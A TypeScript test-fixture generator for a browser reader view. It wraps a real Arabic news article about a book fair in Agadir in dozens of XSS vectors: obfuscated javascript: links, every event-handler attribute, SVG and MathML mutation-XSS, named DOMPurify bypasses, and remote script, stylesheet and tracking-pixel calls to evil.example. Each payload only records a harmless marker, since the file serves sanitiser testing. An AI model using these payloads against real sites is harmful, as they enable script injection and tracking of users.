/**
 * The hostile corpus: attack vectors in article markup, and the pages built from them.
 *
 * Every payload, if it ever runs, pushes `"<context>:<vector id>"` onto `window.__pwned`, where
 * <context> is `reader` when the element sits in a shadow root (Naqi's reader view), `page` in
 * the page itself, and `unknown` for `javascript:` URLs (no element). `<script>` payloads push
 * `"script:<id>"`. A test asserts that nothing with `reader`/`unknown` ever appears once the reader
 * is open, and that no payload text survives into the Article at all.
 *
 * `corpusPage()` is the page committed as tests/fixtures/maghress/hostile-corpus (all vectors in
 * one Maghress article; `hostile-corpus.test.ts` keeps the files in step with this generator).
 * `vectorPage(v)` is one vector alone in the same article, for per-vector unit tests.
 *
 * The huge-attribute, deep-nesting and 10 MB pages are built in memory by `stress.test.ts`;
 * they are too big to commit.
 */

export const PAGE_URL = 'https://www.maghress.com/hibapress/5123457';
export const REAL_IMAGE = 'https://images2.maghress.com/hibapress/5123457/thumb';
export const REAL_CAPTION = 'زوار يتجولون بين أروقة المعرض الجهوي للكتاب بأكادير';
export const LEGIT_LINK = 'https://ar.hibapress.com/tag/%D8%A7%D9%84%D9%83%D8%AA%D8%A7%D8%A8';
export const TITLE = 'افتتاح المعرض الجهوي للكتاب بأكادير بمشاركة عشرات الناشرين المغاربة';

/** What a payload does: push "<context>:<id>" (context from the element's root node: a shadow root has a host). */
export function payload(id: string): string {
  // No whitespace, so it survives unquoted attribute values too.
  return `window.__pwned&&window.__pwned.push((this&&this.getRootNode?(this.getRootNode().host?'reader':'page'):'unknown')+':${id}')`;
}

/** What a <script> payload does. */
export function scriptPayload(id: string): string {
  return `window.__pwned&&window.__pwned.push('script:${id}')`;
}

/** Escape for a double-quoted attribute value. */
export function attr(value: string): string {
  return value.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
}

/** Escape for element text. */
function text(value: string): string {
  return value.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/** Every event handler attribute worth trying (HTML, SVG/SMIL, legacy, media, pointer, touch). */
export const EVENT_HANDLERS = [
  'onabort', 'onafterprint', 'onanimationend', 'onanimationiteration', 'onanimationstart', 'onauxclick',
  'onbeforecopy', 'onbeforeinput', 'onbeforeprint', 'onbeforetoggle', 'onbeforeunload', 'onbegin', 'onblur',
  'oncancel', 'oncanplay', 'oncanplaythrough', 'onchange', 'onclick', 'onclose', 'oncontentvisibilityautostatechange',
  'oncontextmenu', 'oncopy', 'oncuechange', 'oncut', 'ondblclick', 'ondrag', 'ondragend', 'ondragenter',
  'ondragleave', 'ondragover', 'ondragstart', 'ondrop', 'ondurationchange', 'onend', 'onended', 'onerror',
  'onfocus', 'onfocusin', 'onfocusout', 'onformdata', 'onfullscreenchange', 'ongotpointercapture',
  'onhashchange', 'oninput', 'oninvalid', 'onkeydown', 'onkeypress', 'onkeyup', 'onload', 'onloadeddata',
  'onloadedmetadata', 'onloadstart', 'onlostpointercapture', 'onmessage', 'onmousedown', 'onmouseenter',
  'onmouseleave', 'onmousemove', 'onmouseout', 'onmouseover', 'onmouseup', 'onmousewheel', 'onoffline',
  'ononline', 'onpagehide', 'onpageshow', 'onpaste', 'onpause', 'onplay', 'onplaying', 'onpointercancel',
  'onpointerdown', 'onpointerenter', 'onpointerleave', 'onpointermove', 'onpointerout', 'onpointerover',
  'onpointerrawupdate', 'onpointerup', 'onpopstate', 'onprogress', 'onratechange', 'onrepeat', 'onreset',
  'onresize', 'onscroll', 'onscrollend', 'onsearch', 'onsecuritypolicyviolation', 'onseeked', 'onseeking',
  'onselect', 'onselectionchange', 'onselectstart', 'onshow', 'onstalled', 'onstorage', 'onsubmit',
  'onsuspend', 'ontimeupdate', 'ontoggle', 'ontouchcancel', 'ontouchend', 'ontouchmove', 'ontouchstart',
  'ontransitioncancel', 'ontransitionend', 'ontransitionrun', 'ontransitionstart', 'onunload',
  'onvolumechange', 'onwaiting', 'onwebkitanimationend', 'onwebkittransitionend', 'onwheel',
] as const;

function allHandlers(id: string): string {
  const p = attr(payload(id));
  return EVENT_HANDLERS.map((h) => `${h}="${p}"`).join(' ');
}

export interface InlineVector {
  id: string;
  what: string;
  /** Wraps a few real words of the article: the words must stay in the body. */
  wrap(words: string): string;
}

export interface BlockVector {
  id: string;
  what: string;
  /** Markup between two real paragraphs. Its own text (if any) is never article text. */
  html: string;
}

const P = (id: string) => attr(payload(id));
const svgDataUrl = (id: string) =>
  `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${attr(payload(id))}"><script>${scriptPayload(id)}</script></svg>`).toString('base64')}`;
const htmlDataUrl = (id: string) =>
  `data:text/html;base64,${Buffer.from(`<script>parent.__pwned&&parent.__pwned.push('script:${id}')</script>`).toString('base64')}`;

export const INLINE_VECTORS: InlineVector[] = [
  { id: 'a-javascript', what: 'javascript: link', wrap: (w) => `<a href="javascript:${P('a-javascript')}">${w}</a>` },
  {
    id: 'a-javascript-decimal-entity',
    what: 'javascript: link, decimal entity (&#106;avascript:)',
    wrap: (w) => `<a href="&#106;avascript:${P('a-javascript-decimal-entity')}">${w}</a>`,
  },
  {
    id: 'a-javascript-hex-entities',
    what: 'javascript: link, hex entities and &colon;',
    wrap: (w) => `<a href="&#x6A;&#x61;&#x76;&#x61;script&colon;${P('a-javascript-hex-entities')}">${w}</a>`,
  },
  {
    id: 'a-javascript-space-case',
    what: 'javascript: link, leading space and mixed case',
    wrap: (w) => `<a href=" JaVaScRiPt:${P('a-javascript-space-case')}" target="_self">${w}</a>`,
  },
  {
    id: 'a-javascript-tab-newline',
    what: 'javascript: link with a tab and a newline inside the scheme (URL parsers strip them)',
    wrap: (w) => `<a href="java&#x09;scr&#x0A;ipt:${P('a-javascript-tab-newline')}">${w}</a>`,
  },
  {
    id: 'a-javascript-control-prefix',
    what: 'javascript: link behind C0 control characters (URL parsers strip them)',
    wrap: (w) => `<a href="&#x01;&#x1F;&#x0C; javascript:${P('a-javascript-control-prefix')}">${w}</a>`,
  },
  { id: 'a-vbscript', what: 'vbscript: link', wrap: (w) => `<a href="vbscript:msgbox(&quot;a-vbscript&quot;)">${w}</a>` },
  {
    id: 'a-data-html',
    what: 'data:text/html link',
    wrap: (w) => `<a href="${htmlDataUrl('a-data-html')}">${w}</a>`,
  },
  {
    id: 'a-data-svg-entity',
    what: 'data:image/svg+xml link, entity-encoded scheme',
    wrap: (w) => `<a href="&#100;ata:image/svg+xml,&lt;svg onload=&quot;${P('a-data-svg-entity')}&quot;&gt;">${w}</a>`,
  },
  {
    id: 'a-https-with-handlers',
    what: 'a real https link carrying onclick/onmouseover and a ping',
    wrap: (w) => `<a href="${LEGIT_LINK}" onclick="${P('a-https-with-handlers')}" onmouseover="${P('a-https-with-handlers')}" ping="https://evil.example/ping">${w}</a>`,
  },
  {
    id: 'a-xlink-href',
    what: 'xlink:href javascript: on an HTML link with no href',
    wrap: (w) => `<a xlink:href="javascript:${P('a-xlink-href')}">${w}</a>`,
  },
  { id: 'b-handlers', what: 'onclick/onmouseover on <b>', wrap: (w) => `<b onclick="${P('b-handlers')}" onmouseover="${P('b-handlers')}">${w}</b>` },
  { id: 'span-every-handler', what: `all ${EVENT_HANDLERS.length} event handler attributes on one <span>`, wrap: (w) => `<span ${allHandlers('span-every-handler')}>${w}</span>` },
  {
    id: 'em-mixed-case-handler',
    what: 'mixed-case handler name (OnMoUsEoVeR)',
    wrap: (w) => `<em OnMoUsEoVeR="${P('em-mixed-case-handler')}" ONCLICK="${P('em-mixed-case-handler')}">${w}</em>`,
  },
  {
    id: 'i-slash-separated-handler',
    what: 'handler separated by "/" instead of a space (<i/onclick=…>)',
    wrap: (w) => `<i/onclick="${P('i-slash-separated-handler')}"/onmouseover="${P('i-slash-separated-handler')}">${w}</i>`,
  },
  {
    id: 'font-style-overlay',
    what: 'inline style making a word a full-screen overlay',
    wrap: (w) => `<font style="position:fixed;inset:0;z-index:2147483647;background:url(https://evil.example/o.png)" onmouseover="${P('font-style-overlay')}">${w}</font>`,
  },
  { id: 'q-cite-javascript', what: '<q cite=javascript:>', wrap: (w) => `<q cite="javascript:${P('q-cite-javascript')}">${w}</q>` },
  {
    id: 'base-href',
    what: '<base href> to another origin before a relative link',
    wrap: (w) => `<base href="https://evil.example/"><a href="/hibapress/5120000">${w}</a>`,
  },
  {
    id: 'mark-data-aria-attrs',
    what: 'data-*/aria-* attributes and a fake data-naqi-video on inline markup',
    wrap: (w) => `<mark data-bind="${P('mark-data-aria-attrs')}" aria-describedby="x" data-naqi-video="1" href="javascript:${P('mark-data-aria-attrs')}">${w}</mark>`,
  },
];

export const BLOCK_VECTORS: BlockVector[] = [
  // <script>
  { id: 'script-inline', what: 'inline <script>', html: `<script>${scriptPayload('script-inline')}</script>` },
  { id: 'script-src-remote', what: '<script src> to another origin', html: `<script src="https://evil.example/x.js"></script>` },
  {
    id: 'script-src-data',
    what: '<script src=data:>',
    html: `<script src="data:text/javascript,${encodeURIComponent(scriptPayload('script-src-data'))}"></script>`,
  },
  { id: 'script-module', what: '<script type=module>', html: `<script type="module">${scriptPayload('script-module')}</script>` },
  {
    id: 'script-split-tag',
    what: 'doubled angle brackets (<<script>script>…<</script>/script>)',
    html: `<<script>script>${scriptPayload('script-split-tag')}<</script>/script>`,
  },
  // images
  { id: 'img-onerror', what: '<img src=x onerror>', html: `<img src="x" onerror="${P('img-onerror')}">` },
  { id: 'img-empty-onerror', what: '<img src="" onerror>', html: `<img src="" onerror="${P('img-empty-onerror')}" alt="">` },
  { id: 'img-src-javascript', what: '<img src=javascript:>', html: `<img src="javascript:${P('img-src-javascript')}" width="400" height="300">` },
  { id: 'img-src-vbscript', what: '<img src=vbscript:>', html: `<img src="vbscript:msgbox(1)" width="400" height="300">` },
  { id: 'img-src-data-svg', what: '<img src=data:image/svg+xml> with an onload inside', html: `<img src="${svgDataUrl('img-src-data-svg')}" width="400" height="300">` },
  {
    id: 'img-srcset-javascript',
    what: 'srcset and data-srcset with a javascript: candidate',
    html: `<img srcset="javascript:${P('img-srcset-javascript')} 2x" data-srcset="javascript:${P('img-srcset-javascript')} 900w" width="400" height="300">`,
  },
  {
    id: 'img-lazy-javascript',
    what: 'lazy attributes (data-src, data-lazy-src, data-original) holding javascript:',
    html: `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" data-src="javascript:${P('img-lazy-javascript')}" data-lazy-src=" javascript:${P('img-lazy-javascript')}" data-original="vbscript:x" width="400" height="300">`,
  },
  {
    id: 'img-tracking-pixel',
    what: 'a 1×1 tracking pixel on another origin',
    html: `<img src="https://evil.example/pixel.gif?u=reader" width="1" height="1" alt="">`,
  },
  // SVG
  { id: 'svg-onload', what: '<svg onload>', html: `<svg onload="${P('svg-onload')}" width="1" height="1"><circle r="1"/></svg>` },
  {
    id: 'svg-use-href',
    what: '<svg><use href=data:…#x> and a remote sprite',
    html: `<svg width="1" height="1"><use href="${svgDataUrl('svg-use-href')}#x"/><use xlink:href="https://evil.example/sprite.svg#x"/></svg>`,
  },
  {
    id: 'svg-animate-onbegin',
    what: '<svg><animate onbegin>',
    html: `<svg width="1" height="1"><animate onbegin="${P('svg-animate-onbegin')}" attributeName="x" dur="1s"/></svg>`,
  },
  {
    id: 'svg-animate-href',
    what: '<animate> rewriting an <a href> to javascript:',
    html: `<svg width="10" height="10"><a><animate attributeName="href" values="javascript:${P('svg-animate-href')}"/><rect width="10" height="10"/></a></svg>`,
  },
  {
    id: 'svg-set-handler',
    what: '<set> writing an onmouseover attribute',
    html: `<svg width="10" height="10"><rect width="10" height="10"><set attributeName="onmouseover" to="${P('svg-set-handler')}"/></rect></svg>`,
  },
  {
    id: 'svg-foreignobject',
    what: '<foreignObject> holding HTML with handlers and an iframe',
    html: `<svg width="10" height="10"><foreignObject width="10" height="10"><img src="x" onerror="${P('svg-foreignobject')}"><iframe srcdoc="&lt;script&gt;parent.__pwned&amp;&amp;parent.__pwned.push('script:svg-foreignobject')&lt;/script&gt;"></iframe></foreignObject></svg>`,
  },
  {
    id: 'svg-script',
    what: '<svg><script> and <script href=data:>',
    html: `<svg width="1" height="1"><script>${scriptPayload('svg-script')}</script><script href="data:,${encodeURIComponent(scriptPayload('svg-script'))}"/></svg>`,
  },
  {
    id: 'svg-a-xlink-javascript',
    what: '<svg><a xlink:href=javascript:>',
    html: `<svg width="10" height="10"><a xlink:href="javascript:${P('svg-a-xlink-javascript')}"><rect width="10" height="10"/></a></svg>`,
  },
  {
    id: 'svg-style-namespace',
    what: '<style> inside <svg> (parsed as markup there): namespace confusion',
    html: `<svg><style><img src="x" onerror="${P('svg-style-namespace')}"></style></svg>`,
  },
  {
    id: 'svg-p-close-style',
    what: 'DOMPurify 2.0.0 bypass: </p> inside <svg>, a <style> closing inside an attribute',
    html: `<svg></p><style><a id="</style><img src=1 onerror=${P('svg-p-close-style')}>"></a></style></svg>`,
  },
  // MathML
  {
    id: 'math-maction',
    what: '<math><maction xlink:href=javascript:>',
    html: `<math><maction actiontype="statusline" xlink:href="javascript:${P('math-maction')}"><mtext>x</mtext></maction></math>`,
  },
  {
    id: 'math-annotation-xml',
    what: '<annotation-xml encoding=text/html> (an HTML integration point)',
    html: `<math><semantics><annotation-xml encoding="text/html"><img src="x" onerror="${P('math-annotation-xml')}"></annotation-xml></semantics></math>`,
  },
  {
    id: 'math-mglyph-style',
    what: 'mXSS: <math><mtext><table><mglyph><style><img onerror>',
    html: `<math><mtext><table><mglyph><style><img src="x" onerror="${P('math-mglyph-style')}"></style></mglyph></table></mtext></math>`,
  },
  {
    id: 'math-mglyph-comment',
    what: 'DOMPurify 2.0.17 bypass: <mglyph><style><!--</style><img title="--&gt;…">',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${P('math-mglyph-comment')}&gt;"></style></mglyph></table></mtext></math>`,
  },
  {
    id: 'math-form-nesting',
    what: 'DOMPurify 2.2.2 bypass: nested forms around <math><mtext> (the <img> becomes an element only when the markup is parsed a second time; wrapped in a <div> so the page keeps its text)',
    html: `<div><form><math><mtext></form><form><mglyph><style></math><img src onerror="${P('math-form-nesting')}"></style></mglyph></form></mtext></math></div>`,
  },
  {
    id: 'math-p-close',
    what: '</p> inside <math><mi>, a <style> that becomes markup',
    html: `<math><mi><b></p><style><img src="x" onerror="${P('math-p-close')}"></style></b></mi></math>`,
  },
  {
    id: 'math-svg-textarea',
    what: 'mXSS: <math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror>">',
    html: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${P('math-svg-textarea')} src=1>"></path></textarea></mtext></svg></mglyph></mi></math>`,
  },
  // raw-text / RCDATA containers
  {
    id: 'noscript-attr-breakout',
    what: 'mXSS: <noscript><p title="</noscript><img onerror>"> (scripting on vs off parse differently)',
    html: `<noscript><p title="</noscript><img src=x onerror=${P('noscript-attr-breakout')}>"></p></noscript>`,
  },
  {
    id: 'title-in-body',
    what: '<title> in the body, and <svg><title><style>',
    html: `<title><img src=x onerror=${P('title-in-body')}></title><svg><title><style><img src="x" onerror="${P('title-in-body')}"></style></title></svg>`,
  },
  {
    id: 'textarea-breakout',
    what: '<textarea><p title="</textarea><img onerror>">',
    html: `<textarea><p title="</textarea><img src=x onerror=${P('textarea-breakout')}>"></textarea>`,
  },
  {
    id: 'xmp-noembed-breakout',
    what: '<xmp>, <noembed>, <noframes> closing inside an attribute',
    html: `<xmp><img title="</xmp><img src=x onerror=${P('xmp-noembed-breakout')}>"></xmp><noembed><img title="</noembed><img src=x onerror=${P('xmp-noembed-breakout')}>"></noembed><noframes><img title="</noframes><img src=x onerror=${P('xmp-noembed-breakout')}>"></noframes>`,
  },
  {
    id: 'template-content',
    what: '<template> holding handlers',
    html: `<template><img src=x onerror="${P('template-content')}"><script>${scriptPayload('template-content')}</script></template>`,
  },
  {
    id: 'comment-breakout',
    what: 'comments that close early (--!>) around an <img onerror>',
    html: `<!-- a --!><img src=x onerror="${P('comment-breakout')}"><!-- -->`,
  },
  // frames, embeds, forms
  {
    id: 'iframe-srcdoc',
    what: '<iframe srcdoc>',
    html: `<iframe srcdoc="&lt;img src=x onerror=&quot;parent.__pwned&amp;&amp;parent.__pwned.push('script:iframe-srcdoc')&quot;&gt;" width="1" height="1"></iframe>`,
  },
  { id: 'iframe-src-javascript', what: '<iframe src=javascript:>', html: `<iframe src="javascript:${P('iframe-src-javascript')}" width="1" height="1"></iframe>` },
  { id: 'iframe-src-data', what: '<iframe src=data:text/html>', html: `<iframe src="${htmlDataUrl('iframe-src-data')}" width="1" height="1"></iframe>` },
  {
    id: 'form-action-javascript',
    what: '<form action=javascript:> with <input autofocus onfocus> and <button formaction>',
    html: `<form action="javascript:${P('form-action-javascript')}" method="post"><input name="e" autofocus onfocus="${P('form-action-javascript')}"><button formaction="javascript:${P('form-action-javascript')}" type="submit"></button><input type="image" src="javascript:${P('form-action-javascript')}"></form>`,
  },
  { id: 'isindex-keygen', what: 'legacy <isindex>/<keygen autofocus onfocus>', html: `<isindex action="javascript:${P('isindex-keygen')}"><keygen autofocus onfocus="${P('isindex-keygen')}">` },
  { id: 'object-data', what: '<object data=javascript:> and data:text/html', html: `<object data="javascript:${P('object-data')}" width="1" height="1"></object><object type="text/html" data="${htmlDataUrl('object-data')}"><param name="src" value="javascript:${P('object-data')}"></object>` },
  { id: 'embed-src', what: '<embed src=javascript:> and a data: SVG', html: `<embed src="javascript:${P('embed-src')}" width="1" height="1"><embed type="image/svg+xml" src="${svgDataUrl('embed-src')}">` },
  // document-level tags in the body
  { id: 'base-href-javascript', what: '<base href=javascript:>', html: `<base href="javascript:${P('base-href-javascript')}//">` },
  {
    id: 'meta-refresh',
    what: '<meta http-equiv=refresh> to another origin and to javascript: (a day\'s delay, so the page never moves)',
    html: `<meta http-equiv="refresh" content="86400;url=https://evil.example/pwned"><meta http-equiv="refresh" content="86400;url=javascript:${P('meta-refresh')}">`,
  },
  {
    id: 'link-tags',
    what: '<link rel=stylesheet|import|preload|prefetch> to another origin',
    html: `<link rel="stylesheet" href="https://evil.example/steal.css"><link rel="import" href="https://evil.example/i.html"><link rel="preload" as="script" href="https://evil.example/p.js"><link rel="prefetch" href="https://evil.example/f">`,
  },
  {
    id: 'body-onload',
    what: 'a second <body onload> (the parser merges its attributes into the page\'s body; `this` is the window there, so it reports "page" itself)',
    html: `<body onload="window.__pwned&amp;&amp;window.__pwned.push('page:body-onload')" onpageshow="window.__pwned&amp;&amp;window.__pwned.push('page:body-onload')">`,
  },
  // CSS that hides or overlays
  {
    id: 'style-element',
    what: '<style> hiding the reader and its text, with @import and a tracker',
    html: `<style>@import url(https://evil.example/i.css);[data-testid="reader-body"] p{display:none!important}[data-testid="reader-view"],naqi-reader-root{visibility:hidden!important}body{background:url(https://evil.example/css-track.gif)}</style>`,
  },
  {
    id: 'style-attr-overlay',
    what: 'a hidden full-screen position:fixed overlay with onclick',
    html: `<div class="promo-layer" hidden style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:rgba(255,255,255,.01)" onclick="${P('style-attr-overlay')}"></div>`,
  },
  {
    id: 'style-attr-legacy',
    what: 'CSS expression(), -moz-binding, behavior:url() and a background-image tracker',
    html: `<div style="width:expression(${P('style-attr-legacy')});-moz-binding:url(https://evil.example/x.xml#x);behavior:url(https://evil.example/x.htc);background-image:url('https://evil.example/track.gif')"></div>`,
  },
  // assorted handlers on elements the sanitiser drops entirely
  { id: 'details-ontoggle', what: '<details open ontoggle>', html: `<details open ontoggle="${P('details-ontoggle')}"><summary></summary></details>` },
  {
    id: 'media-handlers',
    what: '<video><source onerror>, <video poster=javascript:>, <audio src onerror>',
    html: `<video width="1" height="1" poster="javascript:${P('media-handlers')}"><source onerror="${P('media-handlers')}"></video><audio src="x" onerror="${P('media-handlers')}"></audio>`,
  },
  { id: 'marquee-onstart', what: '<marquee onstart>', html: `<marquee onstart="${P('marquee-onstart')}" width="1"></marquee>` },
  {
    id: 'div-every-handler',
    what: `all ${EVENT_HANDLERS.length} event handler attributes on an empty <div tabindex>`,
    html: `<div tabindex="0" ${allHandlers('div-every-handler')}></div>`,
  },
  {
    id: 'fake-video-block',
    what: 'a forged data-naqi-video marker with a javascript: href',
    html: `<div data-naqi-video="1" href="javascript:${P('fake-video-block')}"></div><a data-naqi-video="1" href=" javascript:${P('fake-video-block')}"></a>`,
  },
];

export const VECTOR_COUNT = INLINE_VECTORS.length + BLOCK_VECTORS.length;

/** The real article: what the reader must still show, whatever is around it. */
export const PARAGRAPHS = [
  'افتتحت، مساء أمس الجمعة بمدينة أكادير، فعاليات الدورة الخامسة للمعرض الجهوي للكتاب، بمشاركة عشرات الناشرين المغاربة والأجانب، وبحضور عدد من الكتاب والمثقفين وممثلي السلطات المحلية والمنتخبين.',
  'ويعرف المعرض، الذي تنظمه المديرية الجهوية للثقافة بتعاون مع جمعيات محلية، عرض آلاف العناوين في مجالات الأدب والتاريخ والعلوم وكتب الأطفال، إلى جانب ندوات فكرية وأمسيات شعرية وتوقيعات لإصدارات جديدة.',
  'وأكد المنظمون أن هذه الدورة تراهن على تقريب الكتاب من الشباب والتلاميذ، من خلال تخفيضات مهمة في الأسعار وورشات في القراءة والكتابة الإبداعية، فضلا عن فضاء خاص بالكتاب الرقمي والمكتبات المدرسية.',
  'ومن المرتقب أن يستقبل المعرض، الذي يستمر عشرة أيام، آلاف الزوار من مختلف مدن جهة سوس ماسة، في وقت دعت فيه فعاليات ثقافية إلى جعل هذه التظاهرة موعدا سنويا قارا يعزز مكانة المدينة في المشهد الثقافي الوطني.',
];

/** The real article's own figure (carries an onload: the image stays, the handler goes). */
export function realFigure(): string {
  return `<figure class="article-image"><img src="${REAL_IMAGE}" onload="${P('real-image-onload')}" onerror="${P('real-image-onload')}" alt="" width="620" height="400"><figcaption>${REAL_CAPTION}</figcaption></figure>`;
}

/** A paragraph with runs of words wrapped by `vectors` (round robin), its text unchanged. */
function paragraphWith(textValue: string, vectors: InlineVector[]): string {
  if (!vectors.length) return `<p>${text(textValue)}</p>`;
  const words = textValue.split(' ');
  const out: string[] = [];
  const step = Math.max(2, Math.floor(words.length / vectors.length));
  let v = 0;
  for (let i = 0; i < words.length; i++) {
    const vector = vectors[v];
    if (vector && i % step === 1 && i + 1 < words.length) {
      out.push(vector.wrap(text(`${words[i]} ${words[i + 1]}`)));
      i++;
      v++;
    } else {
      out.push(text(words[i]!));
    }
  }
  return `<p>${out.join(' ')}</p>`;
}

const JUNK_TICKER = 'توقيف شبكة للاتجار في المخدرات بميناء طنجة المتوسط';
const JUNK_COMMENT = 'مبادرة رائعة نتمنى أن تتكرر في كل المدن.';
const JUNK_FOOTER = 'مغرس محرك بحث إخباري، وجميع المقالات المنشورة عليه تعبر عن آراء أصحابها ومصادرها';
const READ_AT_SOURCE = 'انقر هنا لقراءة الخبر من مصدره';

/** One Maghress article page whose body holds `body` (the real paragraphs and vectors). */
function maghressPage(body: string, options: { headScript?: boolean } = {}): string {
  return `<!DOCTYPE html>
<html lang="ar" dir="rtl">
<head>
${options.headScript === false ? '' : '<script>window.__pwned = [];</script>\n'}<meta charset="utf-8">
<title>مغرس : ${TITLE}</title>
<link rel="canonical" href="${PAGE_URL}">
<meta property="og:site_name" content="مغرس">
<meta property="og:title" content="مغرس : ${TITLE}">
<meta property="og:url" content="${PAGE_URL}">
<meta property="og:image" content="${REAL_IMAGE}">
<meta property="article:published_time" content="2024-03-08T18:40:00+01:00">
<style>body{margin:0;font:17px/1.9 Tahoma,Arial,sans-serif}.article{max-width:760px;margin:16px auto;background:#fff;padding:20px}</style>
</head>
<body>
<header id="header"><a href="https://www.maghress.com/" class="logo"><img src="https://www.maghress.com/images/logo.png" alt="مغرس" width="186" height="62"></a>
<nav class="main-nav"><ul><li><a href="/">الرئيسية</a></li><li><a href="/hibapress">هبة بريس</a></li></ul></nav></header>
<div class="ticker"><span class="ticker-label">آخر الأخبار</span><a href="/hespress/5123001">${JUNK_TICKER}</a></div>
<div class="article">
  <h1>${TITLE}</h1>
  <div class="source">نشر في هبة بريس يوم <time datetime="2024-03-08">08 - 03 - 2024</time></div>
  <div class="content">
${body}
    <p class="read-source"><a class="source-link" href="java&#x0A;script:${P('source-link')}">${READ_AT_SOURCE}</a></p>
  </div>
</div>
<section class="comments" id="comments"><h3>تعليقات الزوار (1)</h3>
  <ol class="comment-list"><li class="comment"><div class="comment-body"><b class="comment-author">زائر</b><p>${JUNK_COMMENT}</p></div></li></ol>
</section>
<footer id="footer"><p class="disclaimer">${JUNK_FOOTER}، ولا تتحمل مغرس أية مسؤولية عن محتواها.</p></footer>
</body>
</html>
`;
}

/** All vectors in one article: inline vectors spread over the paragraphs, block vectors between them. */
export function corpusPage(): string {
  const perParagraph = Math.ceil(INLINE_VECTORS.length / PARAGRAPHS.length);
  const blocksPerGap = Math.ceil(BLOCK_VECTORS.length / PARAGRAPHS.length);
  const parts: string[] = [];
  PARAGRAPHS.forEach((p, i) => {
    parts.push(paragraphWith(p, INLINE_VECTORS.slice(i * perParagraph, (i + 1) * perParagraph)));
    if (i === 0) parts.push(realFigure());
    for (const v of BLOCK_VECTORS.slice(i * blocksPerGap, (i + 1) * blocksPerGap)) parts.push(`<!-- vector: ${v.id} -->\n${v.html}`);
  });
  return maghressPage(parts.join('\n'));
}

/** The article with one vector: an inline one wraps words of paragraph 1; a block one follows it. */
export function vectorPage(vector: InlineVector | BlockVector): string {
  const parts: string[] = [];
  PARAGRAPHS.forEach((p, i) => {
    parts.push(i === 0 && 'wrap' in vector ? paragraphWith(p, [vector]) : `<p>${text(p)}</p>`);
    if (i === 0) {
      parts.push(realFigure());
      if ('html' in vector) parts.push(vector.html);
    }
  });
  return maghressPage(parts.join('\n'));
}

/** expected.json of the corpus fixture (format: tests/fixtures/README.md). */
export function corpusExpected() {
  return {
    url: PAGE_URL,
    site: 'maghress',
    isArticle: true,
    title: TITLE,
    source: { name: 'هبة بريس', url: 'https://ar.hibapress.com/' },
    date: '2024-03-08',
    lang: 'ar',
    dir: 'rtl',
    bodyText: PARAGRAPHS.join('\n\n'),
    images: [{ src: REAL_IMAGE, caption: REAL_CAPTION }],
    junk: [JUNK_TICKER, JUNK_COMMENT, JUNK_FOOTER, READ_AT_SOURCE, 'نشر في هبة بريس يوم'],
  };
}

/** The corpus page as the committed fixture file. */
export function corpusFixtureFiles(): { 'page.html': string; 'expected.json': string } {
  return { 'page.html': corpusPage(), 'expected.json': `${JSON.stringify(corpusExpected(), null, 2)}\n` };
}
